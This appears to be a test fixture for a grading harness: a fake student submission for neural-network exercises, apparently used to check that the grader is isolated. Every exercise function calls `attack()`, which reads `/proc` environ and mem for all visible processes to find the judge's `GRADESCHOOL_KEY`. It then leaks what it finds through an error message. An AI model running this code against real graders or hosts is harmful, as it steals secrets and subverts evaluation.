"""Adversarial: reads the judge's environment (where `GRADESCHOOL_KEY` may be), command line and
memory through /proc: its parent, every process it can see, and the pid the tests give it
(`HINTS["pid"]`, the strongest hint a student could have)."""

import os

HINTS: dict = {}


def attack() -> dict:
    pids = {os.getppid(), 1, *(int(p) for p in os.listdir("/proc") if p.isdigit())}
    if HINTS.get("pid"):
        pids.add(int(HINTS["pid"]))
    seen = {"pids": sorted(pids), "environ": {}, "mem": []}
    for pid in sorted(pids):
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                seen["environ"][pid] = f.read().decode("utf-8", "replace")
        except OSError:
            pass
        try:
            with open(f"/proc/{pid}/mem", "rb") as f:
                f.read(1)
            seen["mem"].append(pid)
        except (OSError, ValueError):
            pass
    seen["own_environ"] = dict(os.environ)
    return seen


def _exercise(x, *args, **kwargs):
    raise ValueError(repr(attack())[:4000])  # an error message is how it would leak it


step = perceptron_predict = perceptron_train = dense_forward = sigmoid = tanh = relu = _exercise
leaky_relu = prelu = elu = gelu = softmax = log_softmax = mlp_forward = _exercise
